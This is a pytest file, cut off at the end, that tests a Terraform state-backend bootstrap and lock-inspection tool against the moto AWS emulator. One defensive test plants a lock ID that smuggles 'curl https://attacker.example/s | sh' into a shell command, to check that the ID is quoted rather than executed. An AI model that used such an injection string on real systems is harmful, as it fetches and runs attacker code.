"""State bootstrap and lock inspection against moto's server (in-process, 127.0.0.1).

moto stores what it is given and does not evaluate bucket-policy conditions, so the TLS-only
policy is checked as a document, not by sending plain-HTTP requests.
"""

from __future__ import annotations

import json
import os
import shlex
import urllib.request
from pathlib import Path

import boto3
import pytest
from botocore.config import Config
from botocore.exceptions import ClientError

from carcierge_pipeline import cli, rehearsal, state
from carcierge_pipeline.errors import UserError

REGION = "us-west-1"
BUCKET = "acme-carcierge-tfstate"
TABLE = "carcierge-terraform-locks"


def _clear_aws_environment(monkeypatch, tmp_path) -> None:
    for name in filter(rehearsal.is_aws_setting, list(os.environ)):  # as the rehearsal clears
        monkeypatch.delenv(name)
    monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", str(tmp_path / "no-credentials"))
    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "no-config"))
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")


@pytest.fixture(scope="session")
def moto_clients(moto_endpoint):
    """Clients with fixed fake credentials, built once (loading service models is slow)."""
    session = boto3.session.Session(aws_access_key_id="testing", aws_secret_access_key="testing")
    return state.AwsClients(REGION, moto_endpoint, session=session)


@pytest.fixture
def aws(moto_endpoint, moto_clients, monkeypatch, tmp_path):
    """An empty moto account and clients pointed at it; the environment has fake credentials
    (for the CLI) and nothing from the machine's own AWS configuration."""
    _clear_aws_environment(monkeypatch, tmp_path)
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "testing")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "testing")
    request = urllib.request.Request(f"{moto_endpoint}/moto-api/reset", method="POST")
    urllib.request.urlopen(request, timeout=60).close()  # a loaded 2-core machine
    return moto_clients


def _client(moto_endpoint: str, service: str, region: str = REGION):
    return boto3.client(
        service,
        region_name=region,
        endpoint_url=moto_endpoint,
        config=Config(s3={"addressing_style": "path"}),
    )


def _bootstrap(aws: state.AwsClients, **overrides) -> state.BootstrapResult:
    arguments = {"bucket": BUCKET, "table": TABLE, "region": REGION, "clients": aws}
    return state.bootstrap(**{**arguments, **overrides})


def _changes(result: state.BootstrapResult, of: str = "") -> dict[str, str]:
    """What a bootstrap changed (of the items named ``of``...): item name -> created or
    updated; the rest is unchanged."""
    return {
        item.name: item.status
        for item in result.items
        if item.status != state.UNCHANGED and item.name.startswith(of)
    }


# --- bootstrap --------------------------------------------------------------------------------


def test_bootstrap_creates_everything_then_changes_nothing(aws):
    first = _bootstrap(aws)
    names = [item.name for item in first.items]
    assert names == [
        "kms key",
        "s3 bucket",
        "bucket versioning",
        "bucket object lock",
        "bucket encryption",
        "public access block",
        "bucket policy",
        "bucket lifecycle",
        "lock table",
        "table billing",
        "table encryption",
        "table deletion protection",
        "table point-in-time recovery",
    ]
    assert {item.status for item in first.items} == {state.CREATED}
    assert first.changed

    second = _bootstrap(aws)
    assert [(i.name, i.status) for i in second.items] == [(n, state.UNCHANGED) for n in names]
    assert not second.changed
    assert second.kms_key_arn == first.kms_key_arn
    assert state.render_bootstrap(second)[-1] == "nothing changed: all 13 items already as wanted"
    assert second.as_dict()["changed"] is False


def test_bucket_is_versioned_kms_encrypted_private_and_expires_old_versions(aws):
    result = _bootstrap(aws, noncurrent_days=30)
    s3 = aws.s3
    assert s3.get_bucket_versioning(Bucket=BUCKET)["Status"] == "Enabled"

    (rule,) = s3.get_bucket_encryption(Bucket=BUCKET)["ServerSideEncryptionConfiguration"]["Rules"]
    assert rule["ApplyServerSideEncryptionByDefault"] == {
        "SSEAlgorithm": "aws:kms",
        "KMSMasterKeyID": result.kms_key_arn,
    }
    assert rule["BucketKeyEnabled"] is True
    key = aws.kms.describe_key(KeyId=state.DEFAULT_KMS_ALIAS)["KeyMetadata"]
    assert key["Arn"] == result.kms_key_arn
    assert key["KeyManager"] == "CUSTOMER"
    assert aws.kms.get_key_rotation_status(KeyId=key["KeyId"])["KeyRotationEnabled"] is True

    block = s3.get_public_access_block(Bucket=BUCKET)["PublicAccessBlockConfiguration"]
    assert block == dict.fromkeys(
        ("BlockPublicAcls", "IgnorePublicAcls", "BlockPublicPolicy", "RestrictPublicBuckets"), True
    )

    (lifecycle,) = s3.get_bucket_lifecycle_configuration(Bucket=BUCKET)["Rules"]
    assert lifecycle["Status"] == "Enabled"
    assert lifecycle["Filter"] in ({}, {"Prefix": ""})
    assert lifecycle["NoncurrentVersionExpiration"]["NoncurrentDays"] == 30
    assert lifecycle["AbortIncompleteMultipartUpload"] == {"DaysAfterInitiation": 7}
    assert lifecycle["Expiration"] == {"ExpiredObjectDeleteMarker": True}

    stored = json.loads(s3.get_bucket_policy(Bucket=BUCKET)["Policy"])
    assert stored == state.bucket_policy(BUCKET)


def test_state_versions_cannot_be_erased_within_the_lock(aws):
    # Review 2026-12-07 M5: Object Lock in GOVERNANCE mode, 30 days unless --lock-days says
    # otherwise; a version cannot be deleted (S3 refuses) without bypassing governance.
    _bootstrap(aws, lock_days=45)
    s3 = aws.s3
    configuration = s3.get_object_lock_configuration(Bucket=BUCKET)["ObjectLockConfiguration"]
    assert configuration["ObjectLockEnabled"] == "Enabled"
    assert configuration["Rule"]["DefaultRetention"]["Mode"] == "GOVERNANCE"
    assert configuration["Rule"]["DefaultRetention"]["Days"] == 45
    s3.delete_bucket_policy(Bucket=BUCKET)  # the emulator speaks plain HTTP, which it denies
    version = s3.put_object(Bucket=BUCKET, Key="prod/terraform.tfstate", Body=b"{}")["VersionId"]
    assert s3.head_object(Bucket=BUCKET, Key="prod/terraform.tfstate")["ObjectLockMode"] == (
        "GOVERNANCE"
    )
    with pytest.raises(ClientError, match="AccessDenied"):
        s3.delete_object(Bucket=BUCKET, Key="prod/terraform.tfstate", VersionId=version)
    assert state.DEFAULT_LOCK_DAYS == 30
    default = _bootstrap(aws)  # back to the default: 30 days would weaken 45, so 45 is kept
    assert default.status_of("bucket object lock") == state.UNCHANGED
    assert "GOVERNANCE, 45 days (stronger than wanted; kept)" in default.items[3].detail


def test_a_bucket_made_without_object_lock_gets_it(aws):
    # A state bucket of an earlier bootstrap: versioned, no Object Lock. S3 allows enabling it
    # on a versioned bucket, so it is not replaced.
    aws.s3.create_bucket(Bucket=BUCKET, CreateBucketConfiguration={"LocationConstraint": REGION})
    result = _bootstrap(aws)
    assert result.status_of("s3 bucket") == state.UNCHANGED
    assert result.status_of("bucket object lock") == state.CREATED
    configuration = aws.s3.get_object_lock_configuration(Bucket=BUCKET)["ObjectLockConfiguration"]
    assert configuration["Rule"]["DefaultRetention"] == {
        **configuration["Rule"]["DefaultRetention"],
        "Mode": "GOVERNANCE",
        "Days": 30,
    }
    assert not _bootstrap(aws).changed


def test_a_compliance_lock_is_never_weakened(aws):
    aws.s3.create_bucket(
        Bucket=BUCKET,
        CreateBucketConfiguration={"LocationConstraint": REGION},
        ObjectLockEnabledForBucket=True,
    )
    compliance = {"DefaultRetention": {"Mode": "COMPLIANCE", "Days": 30}}
    aws.s3.put_object_lock_configuration(
        Bucket=BUCKET, ObjectLockConfiguration={"ObjectLockEnabled": "Enabled", "Rule": compliance}
    )
    result = _bootstrap(aws)
    assert result.status_of("bucket object lock") == state.UNCHANGED
    rule = aws.s3.get_object_lock_configuration(Bucket=BUCKET)["ObjectLockConfiguration"]["Rule"]
    assert rule["DefaultRetention"]["Mode"] == "COMPLIANCE"


def test_lock_table_has_lockid_on_demand_pitr_and_encryption(aws):
    result = _bootstrap(aws)
    table = aws.dynamodb.describe_table(TableName=TABLE)["Table"]
    assert table["KeySchema"] == [{"AttributeName": "LockID", "KeyType": "HASH"}]
    assert table["AttributeDefinitions"] == [{"AttributeName": "LockID", "AttributeType": "S"}]
    assert table["BillingModeSummary"]["BillingMode"] == "PAY_PER_REQUEST"
    assert table["SSEDescription"]["Status"] == "ENABLED"
    assert table["SSEDescription"]["KMSMasterKeyArn"] == result.kms_key_arn
    assert table["DeletionProtectionEnabled"] is True
    backups = aws.dynamodb.describe_continuous_backups(TableName=TABLE)
    pitr = backups["ContinuousBackupsDescription"]["PointInTimeRecoveryDescription"]
    assert pitr["PointInTimeRecoveryStatus"] == "ENABLED"


def test_bucket_policy_document_denies_plain_http_and_old_tls():
    policy = state.bucket_policy(BUCKET)
    assert policy["Version"] == "2012-10-17"
    by_sid = {s["Sid"]: s for s in policy["Statement"]}
    resources = [f"arn:aws:s3:::{BUCKET}", f"arn:aws:s3:::{BUCKET}/*"]
    insecure = by_sid["DenyInsecureTransport"]
    assert insecure["Effect"] == "Deny"
    assert insecure["Principal"] == "*"
    assert insecure["Action"] == "s3:*"
    assert insecure["Resource"] == resources  # the bucket itself and every object
    assert insecure["Condition"] == {"Bool": {"aws:SecureTransport": "false"}}
    old_tls = by_sid["DenyTlsOlderThan12"]
    assert (old_tls["Effect"], old_tls["Principal"], old_tls["Resource"]) == (
        "Deny",
        "*",
        resources,
    )
    assert old_tls["Condition"] == {"NumericLessThan": {"s3:TlsVersion": "1.2"}}
    assert all(s["Effect"] == "Deny" for s in policy["Statement"]), "the policy grants nothing"
    china = state.bucket_policy(BUCKET, state.partition_of("cn-north-1"))
    assert china["Statement"][0]["Resource"][0] == f"arn:aws-cn:s3:::{BUCKET}"


def test_drift_is_repaired_and_foreign_rules_are_kept(aws):
    _bootstrap(aws)
    s3 = aws.s3
    s3.put_bucket_versioning(Bucket=BUCKET, VersioningConfiguration={"Status": "Suspended"})
    s3.delete_public_access_block(Bucket=BUCKET)
    foreign_rule = {
        "ID": "logs-expire",
        "Status": "Enabled",
        "Filter": {"Prefix": "logs/"},
        "Expiration": {"Days": 10},
    }
    s3.put_bucket_lifecycle_configuration(
        Bucket=BUCKET, LifecycleConfiguration={"Rules": [foreign_rule]}
    )
    foreign_statement = {
        "Sid": "DenyDeleteBucket",
        "Effect": "Deny",
        "Principal": "*",
        "Action": "s3:DeleteBucket",
        "Resource": f"arn:aws:s3:::{BUCKET}",
    }
    s3.put_bucket_policy(
        Bucket=BUCKET,
        Policy=json.dumps({"Version": "2012-10-17", "Statement": [foreign_statement]}),
    )

    result = _bootstrap(aws)
    assert _changes(result) == {
        "bucket versioning": state.UPDATED,
        "public access block": state.CREATED,
        "bucket lifecycle": state.CREATED,
        "bucket policy": state.UPDATED,
    }
    assert result.status_of("bucket encryption") == state.UNCHANGED
    assert s3.get_bucket_versioning(Bucket=BUCKET)["Status"] == "Enabled"
    rule_ids = {r["ID"] for r in s3.get_bucket_lifecycle_configuration(Bucket=BUCKET)["Rules"]}
    assert rule_ids == {"logs-expire", state.LIFECYCLE_RULE_ID}
    sids = {
        s["Sid"] for s in json.loads(s3.get_bucket_policy(Bucket=BUCKET)["Policy"])["Statement"]
    }
    assert sids == {"DenyDeleteBucket", *state.POLICY_SIDS}
    assert not _bootstrap(aws).changed


def test_existing_key_alias_is_reused_and_rotation_turned_on(aws):
    key = aws.kms.create_key(Description="team key")["KeyMetadata"]
    aws.kms.create_alias(AliasName="alias/team-state", TargetKeyId=key["KeyId"])
    result = _bootstrap(aws, kms_key_alias="alias/team-state")
    assert result.kms_key_arn == key["Arn"]
    assert result.status_of("kms key") == state.UPDATED
    assert aws.kms.get_key_rotation_status(KeyId=key["KeyId"])["KeyRotationEnabled"] is True
    assert _bootstrap(aws, kms_key_alias="alias/team-state").status_of("kms key") == "unchanged"


def _table_made_before(aws: state.AwsClients, key: str, **billing) -> None:
    """A lock table someone made before the bootstrap: hash key ``key``, ``billing`` mode."""
    aws.dynamodb.create_table(
        TableName=TABLE,
        AttributeDefinitions=[{"AttributeName": key, "AttributeType": "S"}],
        KeySchema=[{"AttributeName": key, "KeyType": "HASH"}],
        **billing,
    )


def test_existing_provisioned_table_is_converged(aws):
    throughput = {"ReadCapacityUnits": 1, "WriteCapacityUnits": 1}
    _table_made_before(aws, "LockID", BillingMode="PROVISIONED", ProvisionedThroughput=throughput)
    result = _bootstrap(aws)
    assert result.status_of("lock table") == state.UNCHANGED
    settings = ("billing", "encryption", "deletion protection", "point-in-time recovery")
    assert _changes(result, of="table ") == {f"table {s}": state.UPDATED for s in settings}
    table = aws.dynamodb.describe_table(TableName=TABLE)["Table"]
    assert table["BillingModeSummary"]["BillingMode"] == "PAY_PER_REQUEST"
    assert table["DeletionProtectionEnabled"] is True


def test_table_with_another_key_schema_is_refused(aws):
    _table_made_before(aws, "id", BillingMode="PAY_PER_REQUEST")
    with pytest.raises(UserError, match="needs the single hash key LockID"):
        _bootstrap(aws)


def test_bucket_in_another_region_is_refused(aws, moto_endpoint):
    _client(moto_endpoint, "s3", "us-east-2").create_bucket(
        Bucket=BUCKET, CreateBucketConfiguration={"LocationConstraint": "us-east-2"}
    )
    with pytest.raises(UserError, match=f"bucket {BUCKET} is in us-east-2, not us-west-1"):
        _bootstrap(aws)


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"bucket": "Bad_Bucket"}, "bucket must be 3-63 lowercase letters"),
        ({"bucket": "192.168.1.10"}, "bucket must be"),
        ({"table": "x"}, "table must be 3-255"),
        ({"kms_key_alias": "alias/aws/s3"}, "kms key alias must be 'alias/<name>'"),
        ({"kms_key_alias": "state-key"}, "kms key alias must be"),
        ({"noncurrent_days": 0}, "noncurrent days must be between 1 and 3650; got 0"),
        ({"lock_days": 0}, r"lock days must be between 1 and the noncurrent days \(90\)"),
        (
            {"noncurrent_days": 14, "lock_days": 30},
            r"lock days must be between 1 and the noncurrent days \(14\): old state versions are "
            "kept at least as long as Object Lock protects them; got 30",
        ),
    ],
)
def test_bad_inputs_are_refused_before_calling_aws(overrides, message):
    arguments = {"bucket": BUCKET, "table": TABLE, "region": REGION, "clients": object()}
    with pytest.raises(UserError, match=message):
        state.bootstrap(**{**arguments, **overrides})


def test_cli_bootstrap_reports_each_item_then_nothing_changed(
    aws, moto_endpoint, monkeypatch, capsys
):
    monkeypatch.setenv("AWS_ENDPOINT_URL", moto_endpoint)
    monkeypatch.setenv("TF_STATE_BUCKET", BUCKET)
    assert cli.main(["state", "bootstrap"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[0] == f"state backend s3://{BUCKET} + table {TABLE} ({REGION})"
    assert out[-1] == "13 of 13 items changed"
    assert cli.main(["state", "bootstrap", "--json"]) == 0
    result = json.loads(capsys.readouterr().out)
    assert result["changed"] is False
    assert {item["status"] for item in result["items"]} == {"unchanged"}


# --- replication to a second region -----------------------------------------------------------

REPLICA_REGION = "us-west-2"


@pytest.fixture(autouse=True)
def faithful_replication(monkeypatch):
    """moto 5.2 answers GetBucketReplication with DeleteMarkerReplication fixed at Disabled and
    without SourceSelectionCriteria, whatever was put (moto/s3/responses.py); S3 returns the
    rule as put. The server runs in this process, so its answer is made to return the stored
    rule; the rest of the answer is moto's own."""
    from moto.core.responses import ActionResult
    from moto.s3 import responses
    from moto.s3.exceptions import ReplicationConfigurationNotFoundError

    def get_bucket_replication(self):
        self.data["Action"] = "GetBucketReplication"
        stored = self.backend.get_bucket_replication(self.bucket_name)
        if not stored:
            raise ReplicationConfigurationNotFoundError(bucket_name=self.bucket_name)
        keys = ("DeleteMarkerReplication", "SourceSelectionCriteria", "Destination")
        rules = [
            {
                "ID": rule["ID"],
                "Priority": int(rule["Priority"]),
                "Status": rule["Status"],
                "Filter": {"Prefix": ""},
                **{key: rule[key] for key in keys if key in rule},
            }
            for rule in stored["Rule"]
        ]
        return self.serialized(
            ActionResult({"ReplicationConfiguration": {"Role": stored["Role"], "Rules": rules}})
        )

    monkeypatch.setattr(responses.S3Response, "get_bucket_replication", get_bucket_replication)


REPLICA_BUCKET = f"{BUCKET}-replica-{REPLICA_REGION}"
REPLICA_ITEMS = [
    "replica kms key",
    "replica bucket",
    "replica versioning",
    "replica object lock",
    "replica encryption",
    "replica public access block",
    "replica bucket policy",
    "replica lifecycle",
    "replication role",
    "replication role policy",
    "bucket replication",
]


def test_replica_is_created_then_nothing_changes(aws):
    first = _bootstrap(aws, replica_region=REPLICA_REGION)
    names = [item.name for item in first.items]
    assert names[:13] == [item.name for item in _bootstrap(aws).items]  # the primary, unchanged
    assert names[13:] == REPLICA_ITEMS
    assert {item.status for item in first.items[13:]} == {state.CREATED}
    assert first.replica_bucket == REPLICA_BUCKET
    assert first.replica_kms_key_arn is not None
    assert f":{REPLICA_REGION}:" in first.replica_kms_key_arn

    second = _bootstrap(aws, replica_region=REPLICA_REGION)
    assert [(i.name, i.status) for i in second.items] == [(n, state.UNCHANGED) for n in names]
    assert second.replica_kms_key_arn == first.replica_kms_key_arn
    assert state.render_bootstrap(second)[:2] == [
        f"state backend s3://{BUCKET} + table {TABLE} ({REGION})",
        f"replicated to s3://{REPLICA_BUCKET} ({REPLICA_REGION})",
    ]
    assert state.render_bootstrap(second)[-1] == "nothing changed: all 24 items already as wanted"


def test_replica_bucket_key_and_replication_configuration(aws, moto_endpoint):
    result = _bootstrap(aws, replica_region=REPLICA_REGION)
    kms = _client(moto_endpoint, "kms", REPLICA_REGION)
    key = kms.describe_key(KeyId=state.DEFAULT_REPLICA_KMS_ALIAS)["KeyMetadata"]
    assert key["Arn"] == result.replica_kms_key_arn and key["KeyManager"] == "CUSTOMER"
    assert kms.get_key_rotation_status(KeyId=key["KeyId"])["KeyRotationEnabled"] is True

    s3 = _client(moto_endpoint, "s3", REPLICA_REGION)
    location = s3.get_bucket_location(Bucket=REPLICA_BUCKET)["LocationConstraint"]
    assert location == REPLICA_REGION
    assert s3.get_bucket_versioning(Bucket=REPLICA_BUCKET)["Status"] == "Enabled"
    (rule,) = s3.get_bucket_encryption(Bucket=REPLICA_BUCKET)["ServerSideEncryptionConfiguration"][
        "Rules"
    ]
    assert rule["ApplyServerSideEncryptionByDefault"] == {
        "SSEAlgorithm": "aws:kms",
        "KMSMasterKeyID": result.replica_kms_key_arn,
    }
    block = s3.get_public_access_block(Bucket=REPLICA_BUCKET)["PublicAccessBlockConfiguration"]
    assert set(block.values()) == {True} and len(block) == 4
    stored = json.loads(s3.get_bucket_policy(Bucket=REPLICA_BUCKET)["Policy"])
    assert stored == state.bucket_policy(REPLICA_BUCKET)

    config = aws.s3.get_bucket_replication(Bucket=BUCKET)["ReplicationConfiguration"]
    iam = _client(moto_endpoint, "iam")
    role = iam.get_role(RoleName=state.REPLICATION_ROLE)["Role"]
    assert config["Role"] == role["Arn"]
    (replication,) = config["Rules"]
    assert replication["ID"] == f"carcierge-state-to-{REPLICA_REGION}"
    assert replication["Status"] == "Enabled"
    assert replication["Filter"] in ({}, {"Prefix": ""})  # every object
    assert replication["DeleteMarkerReplication"] == {"Status": "Enabled"}
    assert replication["SourceSelectionCriteria"] == {
        "SseKmsEncryptedObjects": {"Status": "Enabled"}
    }
    assert replication["Destination"]["Bucket"] == f"arn:aws:s3:::{REPLICA_BUCKET}"
    assert replication["Destination"]["EncryptionConfiguration"] == {
        "ReplicaKmsKeyID": result.replica_kms_key_arn
    }

    # The role: S3 only, for this account's state bucket; least privilege per key and bucket.
    (trust,) = role["AssumeRolePolicyDocument"]["Statement"]
    assert trust["Principal"] == {"Service": "s3.amazonaws.com"}
    assert trust["Condition"]["ArnLike"] == {"aws:SourceArn": f"arn:aws:s3:::{BUCKET}"}
    assert trust["Condition"]["StringEquals"]["aws:SourceAccount"].isdigit()
    policy = iam.get_role_policy(
        RoleName=state.REPLICATION_ROLE, PolicyName=state.REPLICATION_POLICY
    )["PolicyDocument"]
    by_sid = {s["Sid"]: s for s in policy["Statement"]}
    assert by_sid["DecryptSourceThroughS3"]["Action"] == "kms:Decrypt"
    assert by_sid["DecryptSourceThroughS3"]["Resource"] == result.kms_key_arn
    assert by_sid["DecryptSourceThroughS3"]["Condition"]["StringEquals"] == {
        "kms:ViaService": f"s3.{REGION}.amazonaws.com"
    }
    assert by_sid["EncryptReplicaThroughS3"]["Action"] == "kms:Encrypt"
    assert by_sid["EncryptReplicaThroughS3"]["Resource"] == result.replica_kms_key_arn
    assert by_sid["EncryptReplicaThroughS3"]["Condition"]["StringEquals"] == {
        "kms:ViaService": f"s3.{REPLICA_REGION}.amazonaws.com"
    }
    assert by_sid["WriteReplica"]["Resource"] == f"arn:aws:s3:::{REPLICA_BUCKET}/*"
    assert by_sid["ReadSourceVersions"]["Resource"] == f"arn:aws:s3:::{BUCKET}/*"
    actions = [a for s in policy["Statement"] for a in _as_list(s["Action"])]
    assert not any(a.endswith("*") for a in actions)


def _as_list(value):
    return value if isinstance(value, list) else [value]


def test_replication_drift_is_repaired_and_an_explicit_replica_bucket_is_used(aws, moto_endpoint):
    arguments = {"replica_region": REPLICA_REGION, "replica_bucket": "acme-state-copy"}
    _bootstrap(aws, **arguments)
    aws.s3.delete_bucket_replication(Bucket=BUCKET)
    iam = _client(moto_endpoint, "iam")
    iam.put_role_policy(
        RoleName=state.REPLICATION_ROLE,
        PolicyName=state.REPLICATION_POLICY,
        PolicyDocument=json.dumps({
            "Version": "2012-10-17",
            "Statement": [{"Effect": "Allow", "Action": "s3:*", "Resource": "*"}],
        }),
    )  # fmt: skip
    result = _bootstrap(aws, **arguments)
    assert _changes(result) == {
        "bucket replication": state.CREATED,
        "replication role policy": state.UPDATED,
    }
    assert result.status_of("replica bucket") == state.UNCHANGED
    config = aws.s3.get_bucket_replication(Bucket=BUCKET)["ReplicationConfiguration"]
    assert config["Rules"][0]["Destination"]["Bucket"] == "arn:aws:s3:::acme-state-copy"
    assert not _bootstrap(aws, **arguments).changed


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"replica_region": REGION}, "--replica-region must differ from the state region"),
        ({"replica_region": "mars-1"}, "--replica-region must be an AWS region code"),
        ({"replica_region": "US-WEST-2"}, "--replica-region must be an AWS region code"),
        ({"replica_region": "cn-north-1"}, "is in another partition than us-west-1"),
        ({"replica_bucket": "x-copy"}, "need --replica-region"),
        (
            {"replica_region": REPLICA_REGION, "replica_bucket": BUCKET},
            "replica bucket must differ from the state bucket",
        ),
        (
            {"replica_region": REPLICA_REGION, "bucket": "b" * 50},
            "replica bucket must be 3-63 .* \\(pass --replica-bucket\\)",
        ),
        (
            {"replica_region": REPLICA_REGION, "replica_kms_key_alias": "alias/aws/s3"},
            "replica kms key alias must be",
        ),
    ],
)
def test_bad_replica_options_are_refused_before_calling_aws(overrides, message):
    arguments = {"bucket": BUCKET, "table": TABLE, "region": REGION, "clients": object()}
    with pytest.raises(UserError, match=message):
        state.bootstrap(**{**arguments, **overrides})


def test_cli_bad_replica_region_is_one_line_exit_2(monkeypatch, tmp_path, capsys):
    # No credentials and no endpoint: any AWS call would fail with another message.
    _clear_aws_environment(monkeypatch, tmp_path)
    command = ["state", "bootstrap", "--bucket", BUCKET, "--replica-region"]
    assert cli.main([*command, "us-west-1"]) == 2
    assert capsys.readouterr().err == (
        "error: --replica-region must differ from the state region us-west-1: a replica in the "
        "same region does not survive the region's loss\n"
    )
    assert cli.main([*command, "westus2"]) == 2
    assert capsys.readouterr().err == (
        "error: --replica-region must be an AWS region code such as us-west-2; got 'westus2'\n"
    )


def test_cli_bootstrap_with_replica_region(aws, moto_endpoint, monkeypatch, capsys):
    monkeypatch.setenv("AWS_ENDPOINT_URL", moto_endpoint)
    monkeypatch.setenv("TF_STATE_BUCKET", BUCKET)
    command = ["state", "bootstrap", "--replica-region", REPLICA_REGION]
    assert cli.main(command) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[1] == f"replicated to s3://{REPLICA_BUCKET} ({REPLICA_REGION})"
    assert out[-1] == "24 of 24 items changed"
    assert cli.main([*command, "--json"]) == 0
    result = json.loads(capsys.readouterr().out)
    assert result["changed"] is False
    assert result["replica_bucket"] == REPLICA_BUCKET


# --- lock inspection --------------------------------------------------------------------------


def _lock_info(lock_id: str, environment: str = "qa") -> str:
    """The JSON Terraform's statemgr.LockInfo marshals into both lock stores."""
    return json.dumps(
        {
            "ID": lock_id,
            "Operation": "OperationTypeApply",
            "Info": "",
            "Who": "gitlab-runner@runner-7",
            "Version": "1.15.5",
            "Created": "2026-11-26T06:12:41.123456Z",
            "Path": f"{BUCKET}/carcierge/{environment}/terraform.tfstate",
        }
    )


@pytest.fixture
def backend(aws, monkeypatch):
    _bootstrap(aws)
    # moto ignores policy conditions, so it reads the TLS-only deny as "deny every object
    # request"; the lock tests need object access, so they run without the policy.
    aws.s3.delete_bucket_policy(Bucket=BUCKET)
    monkeypatch.setenv("TF_STATE_BUCKET", BUCKET)
    return aws


def _hold_in_dynamodb(aws, lock_id: str, environment: str = "qa") -> None:
    path = f"{BUCKET}/carcierge/{environment}/terraform.tfstate"
    aws.dynamodb.put_item(
        TableName=TABLE, Item={"LockID": {"S": path}, "Info": {"S": _lock_info(lock_id)}}
    )
    aws.dynamodb.put_item(
        TableName=TABLE,
        Item={"LockID": {"S": path + "-md5"}, "Digest": {"S": "0cc175b9c0f1b6a831c399e269772661"}},
    )


def _hold_in_s3(aws, lock_id: str, environment: str = "qa") -> None:
    aws.s3.put_object(
        Bucket=BUCKET,
        Key=f"carcierge/{environment}/terraform.tfstate.tflock",
        Body=_lock_info(lock_id).encode(),
        ContentType="application/json",
    )


def test_free_lock(backend):
    lines: list[str] = []
    status = state.lock_status("qa", clients=backend, echo=lines.append)
    assert not status.held
    assert status.unlock_commands() == []
    assert "no lock held on the qa state" in lines


def test_lock_held_in_both_stores_shows_holder_and_force_unlock(backend):
    lock_id = "3f1e4b52-8c1d-4e8a-9a57-2f0c8d7b6e11"
    _hold_in_dynamodb(backend, lock_id)
    _hold_in_s3(backend, lock_id)
    lines: list[str] = []
    status = state.lock_status("qa", clients=backend, echo=lines.append)
    assert [h.source for h in status.holders] == ["dynamodb", "s3 lockfile"]
    assert status.holders[0].info["Who"] == "gitlab-runner@runner-7"
    assert status.digest == "0cc175b9c0f1b6a831c399e269772661"
    assert status.unlock_commands() == [f"terraform force-unlock {lock_id}"]
    text = "\n".join(lines)
    assert f"  terraform force-unlock {lock_id}" in lines
    assert "Operation: OperationTypeApply" in text
    assert "Who:       gitlab-runner@runner-7" in text
    assert f"s3://{BUCKET}/carcierge/qa/terraform.tfstate.tflock" in text
    init = status.init_command()
    assert "-backend-config=key=carcierge/qa/terraform.tfstate" in init
    assert "-backend-config=use_lockfile=true" in init
    assert f"-backend-config=dynamodb_table={TABLE}" in init
    assert f"  {init}" in lines
    assert "only the" not in text
    # Other environments' states have their own locks.
    assert not state.lock_status("prod", clients=backend, echo=None).held


def test_lock_held_in_one_store_or_under_two_ids(backend):
    _hold_in_dynamodb(backend, "aaaa")
    lines: list[str] = []
    status = state.lock_status("qa", clients=backend, echo=lines.append)
    assert [h.source for h in status.holders] == ["dynamodb"]
    assert any("only the dynamodb holds it" in line for line in lines)
    _hold_in_s3(backend, "bbbb")
    status = state.lock_status("qa", clients=backend, echo=None)
    assert status.unlock_commands() == [
        "terraform force-unlock aaaa",
        "terraform force-unlock bbbb",
    ]


def test_a_planted_lock_id_is_quoted_not_run(backend):
    # Review 2026-12-07 L7: whoever can write the lock item chooses the id an operator pastes.
    planted = "x; curl https://attacker.example/s | sh #"
    _hold_in_dynamodb(backend, planted)
    status = state.lock_status("qa", clients=backend, echo=None)
    [command] = status.unlock_commands()
    assert shlex.split(command) == ["terraform", "force-unlock", planted]
    assert all(
        word.startswith("-backend-config=") for word in shlex.split(status.init_command())[4:]
    )


def test_cli_lock_prints_force_unlock(backend, moto_endpoint, monkeypatch, capsys):
    monkeypatch.setenv("AWS_ENDPOINT_URL", moto_endpoint)
    _hold_in_s3(backend, "cafe-0001", environment="uat")
    assert cli.main(["state", "lock", "--environment", "uat"]) == 0
    assert "  terraform force-unlock cafe-0001" in capsys.readouterr().out.splitlines()


# --- one-line user errors ---------------------------------------------------------------------


def test_missing_bucket_is_one_line(aws, moto_endpoint, monkeypatch, capsys):
    _bootstrap(aws)
    monkeypatch.setenv("AWS_ENDPOINT_URL", moto_endpoint)
    monkeypatch.setenv("TF_STATE_BUCKET", "nobody-made-this-bucket")
    assert cli.main(["state", "lock", "-e", "qa"]) == 2
    err = capsys.readouterr().err
    assert err == (
        "error: state bucket nobody-made-this-bucket not found in us-west-1: create it with "
        "`carcierge state bootstrap` or set TF_STATE_BUCKET\n"
    )


def test_missing_table_is_one_line(aws, moto_endpoint, monkeypatch, capsys):
    monkeypatch.setenv("AWS_ENDPOINT_URL", moto_endpoint)
    monkeypatch.setenv("TF_STATE_BUCKET", BUCKET)
    assert cli.main(["state", "lock", "-e", "prod"]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"error: lock table {TABLE} not found in us-west-1")
    assert err.count("\n") == 1


def test_unset_bucket_is_one_line(monkeypatch, tmp_path, capsys):
    _clear_aws_environment(monkeypatch, tmp_path)
    assert cli.main(["state", "lock", "-e", "qa"]) == 2
    assert capsys.readouterr().err.startswith("error: TF_STATE_BUCKET is not set")
    assert cli.main(["state", "bootstrap"]) == 2
    assert (
        capsys.readouterr().err == "error: no state bucket: pass --bucket or set TF_STATE_BUCKET\n"
    )


def test_missing_credentials_is_one_line(moto_endpoint, monkeypatch, tmp_path, capsys):
    _clear_aws_environment(monkeypatch, tmp_path)
    monkeypatch.setenv("AWS_ENDPOINT_URL", moto_endpoint)  # never real AWS, even by mistake
    assert cli.main(["state", "bootstrap", "--bucket", BUCKET]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: no AWS credentials while describing KMS key")
    assert err.count("\n") == 1
    monkeypatch.setenv("TF_STATE_BUCKET", BUCKET)
    assert cli.main(["state", "lock", "-e", "qa"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: no AWS credentials while reading lock")
    assert err.count("\n") == 1


# --- GitLab OIDC: per environment a plan and a deploy role (issue 22 item 2; more in
# test_ci_roles.py)


def test_oidc_bootstrap_refuses_a_bad_project_path_in_one_line(aws, capsys):
    assert (
